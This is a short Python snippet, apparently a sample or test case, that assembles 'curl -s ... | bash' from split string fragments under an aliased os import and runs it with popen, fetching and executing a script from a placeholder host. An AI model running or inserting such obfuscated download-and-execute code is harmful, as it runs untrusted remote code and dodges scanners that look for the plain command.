# download-run: the command is built from a list
import os as system_tools

parts = ["cu", "rl -s ", "https://files.example/a.sh", " | ", "ba", "sh"]
system_tools.popen("".join(parts)).read()
